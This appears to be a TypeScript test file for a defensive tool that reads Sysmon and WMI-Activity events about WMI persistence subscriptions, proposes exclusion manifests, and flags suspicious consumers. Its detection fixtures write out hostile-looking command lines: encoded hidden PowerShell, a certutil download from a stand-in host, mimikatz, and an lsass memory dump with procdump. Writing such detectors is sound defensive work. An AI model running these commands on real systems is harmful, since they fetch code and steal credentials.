import type { CollectedFile, CollectOptions } from '../../../lib';
import {
  collectExclusions,
  compileConfig,
  generateTemplate,
  manifestText,
  readEvents,
  readManifest,
  subscriptionsOf,
} from '../../../lib';
import { savingOf, suspicionsOf } from '../../../lib/triage';
import { TODAY } from '../../exclusions/manifests';

const SHA = 'a'.repeat(64);

interface Subscription {
  readonly filter?: string;
  readonly query?: string;
  readonly consumer?: string;
  readonly destination?: string;
  readonly prefix?: string;
  readonly host?: string;
  readonly time?: string;
  readonly operation?: string;
}

function events(subscription: Subscription = {}): object[] {
  const {
    filter = 'F',
    query = 'select * from X',
    consumer = 'C',
    destination = 'C:\\\\a.exe',
    prefix = '',
  } = subscription;
  const { host = 'WS01', time = '2026-01-01 00:00:00.000', operation = 'Created' } = subscription;
  const common = { UtcTime: time, Operation: operation, User: 'CORP\\a' };
  return [
    {
      EventID: 19,
      ...common,
      EventType: 'WmiFilterEvent',
      EventNamespace: ' "root\\\\cimv2"',
      Name: ` "${filter}"`,
      Query: ` "${query}"`,
    },
    {
      EventID: 20,
      ...common,
      EventType: 'WmiConsumerEvent',
      Name: ` "${consumer}"`,
      Type: 'Command Line',
      Destination: ` "${destination}"`,
    },
    {
      EventID: 21,
      ...common,
      EventType: 'WmiBindingEvent',
      Consumer: ` "${prefix}CommandLineEventConsumer.Name=\\"${consumer}\\""`,
      Filter: ` "${prefix}__EventFilter.Name=\\"${filter}\\""`,
    },
  ].map((fields) => ({ EventID: fields.EventID, Computer: host, fields }));
}

function collected(list: readonly object[], options: Partial<CollectOptions> = {}) {
  const text = list.map((event) => JSON.stringify(event)).join('\n');
  const file: CollectedFile = { ...readEvents(text), name: 'events.jsonl', sha256: SHA };
  return collectExclusions([file], { today: TODAY, ...options });
}

describe('collectExclusions', () => {
  it('proposes a subscription of which all three events were recorded, with evidence', () => {
    const { proposals, refused, incomplete, total } = collected(events());
    expect(proposals.map(({ entry }) => entry)).toEqual([
      {
        id: 'c',
        product: 'REPLACE_ME',
        why: 'REPLACE_ME',
        filter: { name: 'F', namespace: 'root\\cimv2', query: 'select * from X' },
        consumer: { type: 'Command Line', name: 'C', destination: 'C:\\a.exe' },
        evidence: {
          verifiedBy: 'REPLACE_ME',
          verified: 'REPLACE_ME',
          ticket: 'REPLACE_ME',
          hosts: ['WS01'],
          events: [{ file: 'events.jsonl', sha256: SHA }],
          count: 3,
        },
        expires: '2027-11-25',
      },
    ]);
    expect([refused, incomplete]).toEqual([[], []]);
    expect(total).toEqual({ count: 3, days: 1, hosts: ['WS01'] });
  });

  it('chains by absolute paths as by relative ones', () => {
    const prefix = '\\\\\\\\.\\\\ROOT\\\\subscription:';
    expect(collected(events({ prefix })).proposals).toHaveLength(1);
  });

  it('takes other paths than the usual ones as they were recorded', () => {
    const prefix = '\\\\\\\\WS02\\\\ROOT\\\\subscription:';
    const list = events({ prefix });
    const { proposals, incomplete } = collected(list);
    expect([proposals.length, incomplete]).toEqual([1, []]);
    expect(proposals[0]?.entry.binding?.consumer).toBe(
      '\\\\WS02\\ROOT\\subscription:CommandLineEventConsumer.Name="C"',
    );
    const text = manifestText(collected(list, { verified: TODAY })).replaceAll('REPLACE_ME', 'x');
    const { manifest } = readManifest(text, TODAY);
    const config = manifest && generateTemplate('log-all', { exclusions: subscriptionsOf(manifest, 'sysmon') }).config;
    const recorded = readEvents(list.map((event) => JSON.stringify(event)).join('\n')).events;
    expect(recorded.map(({ event }) => config && compileConfig(config).evaluate(event).logged)).toEqual([
      false,
      false,
      false,
    ]);
  });

  it('keeps a name that itself looks recorded apart from the name inside it', () => {
    const inner = { filter: ' \\"Updater\\"', consumer: ' \\"Updater\\"', destination: 'C:\\\\b.exe' };
    const list = [...events(inner), ...events({ filter: 'Updater', consumer: 'Updater' })];
    const { proposals } = collected(list, { verified: TODAY });
    expect(proposals.map(({ entry }) => entry.filter.name)).toEqual([' "Updater"', 'Updater']);
    const only = { version: 1 as const, exclusions: proposals.slice(0, 1).map(({ entry }) => entry) };
    const { config } = generateTemplate('log-all', { exclusions: subscriptionsOf(only, 'sysmon') });
    const recorded = readEvents(list.map((event) => JSON.stringify(event)).join('\n')).events;
    expect(recorded.map(({ event }) => compileConfig(config).evaluate(event).logged)).toEqual([
      ...[false, false, false],
      ...[true, true, true],
    ]);
  });

  it('proposes nothing that the written form would not give back: a tab that was recorded as it is', () => {
    const { proposals, incomplete } = collected(events({ destination: 'a\tb' }));
    expect(proposals).toEqual([]);
    expect(incomplete[0]?.why).toBe('its values do not have the form that Sysmon records');
  });

  it('proposes nothing of objects that Sysmon does not watch', () => {
    const { proposals, incomplete } = collected(events({ prefix: '\\\\\\\\.\\\\root\\\\ccm:' }));
    expect(proposals).toEqual([]);
    expect(incomplete[0]?.why).toContain('which Sysmon does not watch');
  });

  it('takes a script of five million characters', () => {
    const list = events({ destination: 'x\\n'.repeat(1_666_667) });
    const { proposals } = collected(list, { acceptRisk: 'longer than is read' });
    expect(collected(list).refused[0]?.suspicions.map(({ kind }) => kind)).toEqual(['unreadable']);
    expect(proposals[0]?.entry.consumer.destination).toHaveLength(3_333_334);
  });

  it('fills in the day of the verification only where it is given', () => {
    const [given] = collected(events(), { verified: '2026-11-20' }).proposals;
    expect([given?.entry.evidence.verified, given?.entry.expires]).toEqual(['2026-11-20', '2027-11-20']);
  });

  it('says of which path an exclusion does not cover the events', () => {
    const prefix = '\\\\\\\\WS02\\\\ROOT\\\\subscription:';
    const { proposals, incomplete } = collected([...events(), ...events({ prefix }).slice(2)]);
    expect(proposals).toMatchObject([{ seen: { count: 3 } }]);
    expect(incomplete[0]?.why).toContain('WS02');
  });

  it('counts the same subscription of several hosts once, over the time of all events', () => {
    const { proposals } = collected([...events(), ...events({ host: 'WS02', time: '2026-03-31 00:00:00.000' })]);
    expect(proposals.map(({ seen }) => seen)).toEqual([{ count: 6, days: 89, hosts: ['WS01', 'WS02'] }]);
  });

  it('does not join what was recorded on different hosts', () => {
    const [filter, , binding] = events();
    const [, consumer] = events({ host: 'WS02' });
    const { proposals, incomplete } = collected([filter ?? {}, consumer ?? {}, binding ?? {}]);
    expect(proposals).toEqual([]);
    expect(incomplete.map(({ part, name, why }) => [part, name, why])).toEqual([
      ['binding', 'F to C', 'not recorded completely: the consumer "C" (event 20)'],
      ['consumer', 'C', 'no binding of it was recorded (event 21)'],
    ]);
  });

  it('refuses what was changed on the host, and shows what it was; the risk can be accepted', () => {
    const changed = events({ destination: 'C:\\\\b.exe', operation: 'Modified', time: '2026-01-02 00:00:00.000' });
    const { proposals, refused } = collected([...events(), ...changed]);
    expect(proposals).toEqual([]);
    expect(refused).toMatchObject([
      { destination: 'C:\\b.exe', suspicions: [{ kind: 'payload-changed', found: 'C:\\a.exe' }] },
    ]);
    const accepted = collected([...events(), ...changed], { acceptRisk: 'an update' }).proposals;
    expect(accepted.map(({ entry }) => entry.consumer.destination)).toEqual(['C:\\b.exe']);
  });

  it('takes two versions on two hosts for two subscriptions', () => {
    const { proposals } = collected([...events(), ...events({ host: 'WS02', destination: 'C:\\\\b.exe' })]);
    expect(proposals.map(({ entry }) => [entry.id, entry.consumer.destination])).toEqual([
      ['c', 'C:\\a.exe'],
      ['c-2', 'C:\\b.exe'],
    ]);
  });

  it('proposes nothing that is changed again and again', () => {
    const many = Array.from({ length: 9 }, (_, index) => events({ destination: `C:\\\\${String(index)}.exe` })).flat();
    const { proposals, incomplete } = collected(many);
    expect(proposals).toEqual([]);
    expect(incomplete.map(({ why }) => why)).toEqual([
      'its filter or consumer was changed repeatedly: 1 and 9 versions',
    ]);
  });

  it('refuses what looks like an attack, unless the risk is accepted with a reason', () => {
    const attack = events({ destination: 'powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A' });
    const { proposals, refused } = collected(attack);
    expect(proposals).toEqual([]);
    expect(refused).toMatchObject([
      { consumer: 'C', suspicions: expect.arrayContaining([expect.objectContaining({ kind: 'encoded' })]) as unknown },
    ]);
    const accepted = collected(attack, { acceptRisk: 'our own deployment' });
    expect(accepted.refused).toEqual([]);
    expect(accepted.proposals[0]?.entry.why).toBe('accepted risk: our own deployment');
  });

  it('never takes a shortened value for evidence', () => {
    const cut = events().map((event) => ({
      ...event,
      shortened: 'fields' in event && 'Query' in (event.fields as object),
    }));
    const { proposals, incomplete } = collected(cut);
    expect(proposals).toEqual([]);
    expect(incomplete[0]).toMatchObject({ part: 'filter', name: 'F' });
    expect(incomplete[0]?.why).toContain('was cut before it reached the file');
  });

  it('undoes what a pipeline altered', () => {
    const altered = events().map((event) => JSON.parse(JSON.stringify(event).replaceAll('" \\"', '"\\"')) as object);
    expect(collected(altered).proposals[0]?.entry.consumer.destination).toBe('C:\\a.exe');
  });

  it('takes the known parts of the verification', () => {
    const [proposal] = collected(events(), { verifiedBy: 'A. Admin', ticket: 'SEC-1' }).proposals;
    expect(proposal?.entry.evidence).toMatchObject({ verifiedBy: 'A. Admin', ticket: 'SEC-1' });
  });

  it('takes thirty thousand events', () => {
    const many = Array.from({ length: 10_000 }, (_, index) => {
      const second = String(Math.floor(index / 500)).padStart(2, '0');
      return events({ host: `WS${String(index % 500)}`, time: `2026-01-01 00:00:${second}.000` });
    }).flat();
    const { proposals } = collected(many);
    expect(proposals.map(({ seen }) => seen.count)).toEqual([30_000]);
  });
});

describe('a subscription of event 5861', () => {
  const record = (namespace: string, consumer: string): object => ({
    EventID: 5861,
    channel: 'Microsoft-Windows-WMI-Activity/Operational',
    Computer: 'WS01',
    fields: {
      Namespace: namespace,
      ESS: 'F',
      CONSUMER: 'CommandLineEventConsumer="C"',
      PossibleCause: `Binding EventFilter: \ninstance of __EventFilter\n{\n\tEventNamespace = "root\\\\cimv2";\n\tName = "F";\n\tQuery = "select * from X";\n\tQueryLanguage = "WQL";\n};\nPerm. Consumer: \n${consumer}`,
    },
  });
  const CONSUMER =
    'instance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "C:\\\\a.exe";\n\tName = "C";\n};\n';

  it('is proposed, marked as derived', () => {
    const collection = collected([record('//./root/subscription', CONSUMER)]);
    expect(collection.proposals).toMatchObject([
      { derived: true, entry: { filter: { name: 'F' }, consumer: { type: 'Command Line', destination: 'C:\\a.exe' } } },
    ]);
    expect(manifestText(collection)).toContain('by event 5861 alone: compare the values with a Sysmon event 20');
  });

  it('and its events 19 to 21 are one subscription', () => {
    const { proposals } = collected([...events(), record('//./root/subscription', CONSUMER)]);
    expect(proposals).toMatchObject([{ derived: false, seen: { count: 4 } }]);
  });

  it('is no exclusion where Sysmon does not watch', () => {
    const { proposals, incomplete } = collected([record('//./root/ccm', CONSUMER)]);
    expect(proposals).toEqual([]);
    expect(incomplete[0]?.why).toContain('lives in //./root/ccm, which Sysmon does not watch');
  });
});

describe('manifestText', () => {
  it('is a manifest once its placeholders are filled in', () => {
    const text = manifestText(collected(events({ destination: ' a: \\"b\\" # c\\n%x%' })));
    const messages = readManifest(text, TODAY).problems.map(({ message }) => message);
    expect(messages.every((message) => message.endsWith('is still the placeholder REPLACE_ME'))).toBe(true);
    expect(messages).toHaveLength(5);
    const filled = text.replace('verified: REPLACE_ME', `verified: ${TODAY}`).replaceAll('REPLACE_ME', 'x');
    expect(readManifest(filled, TODAY).problems).toEqual([]);
  });

  it('says at each entry what excluding it would save', () => {
    const text = manifestText(collected([...events(), ...events({ time: '2026-03-31 00:00:00.000' })]));
    expect(text).toContain('  # 6 events in 89 days (2 per month) on 1 host\n  - id: c\n');
  });
});

it.each([
  [{ count: 1, days: null, hosts: [] }, '1 event'],
  [{ count: 2, days: 1, hosts: ['a', 'b'] }, '2 events in 1 day on 2 hosts'],
  [{ count: 0, listed: 2, days: null, hosts: ['a', 'b'] }, 'in no event; listed by an inventory on 2 hosts'],
  [{ count: 1, days: 1000, hosts: ['a'] }, '1 event in 1,000 days (under 0.1 per month) on 1 host'],
])('savingOf(%j) is %s', (seen, text) => {
  expect(savingOf(seen)).toBe(text);
});

describe('suspicionsOf', () => {
  const QUERY = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'CCM_Event'";
  const kindsOf = (type: string, destination: string, query = QUERY): readonly string[] =>
    suspicionsOf({ name: 'F', query }, { name: 'C', type, destination }).map(({ kind }) => kind);

  it.each([
    ['Command Line', 'powershell.exe -NoP -W Hidden -Enc SQBFAFgAUwBRAEIARgA=', 'encoded'],
    ['Command Line', 'C:\\Windows\\System32\\cscript.exe KernCap.vbs', 'interpreter'],
    ['Command Line', 'certutil -urlcache -f http://x.example/a y.exe', 'download'],
    ['Command Line', 'C:\\Tools\\mimikatz.exe', 'credentials'],
    ['Command Line', 'procdump -ma lsass.exe C:\\a.dmp', 'credentials'],
    ['Command Line', 'rundll32.exe C:\\Users\\Public\\a.dll,Start', 'proxy'],
    ['Script', 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -enc SQBFAFgA"', 'starts-program'],
  ])('finds what %s %s has in common with attacks', (type, payload, kind) => {
    expect(kindsOf(type, payload)).toContain(kind);
  });

  it.each([
    ['Command Line', 'C:\\Program Files\\Agent\\agent.exe -check all'],
    ['Command Line', 'C:\\Tools\\encode.exe -e file.txt'],
    ['Command Line', 'D:\\Tools\\cmdagent.exe'],
    ['Log File', 'C:\\Log.log'],
    ['NT Event Log', 'Service Control Manager'],
  ])('finds nothing in %s %s', (type, payload) => {
    expect(kindsOf(type, payload)).toEqual([]);
  });

  it('knows the default trigger of a public tool, whatever it runs', () => {
    const startup =
      "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325";
    expect(kindsOf('Command Line', 'C:\\Tools\\agent.exe', startup)).toEqual(['trigger-known']);
  });
});
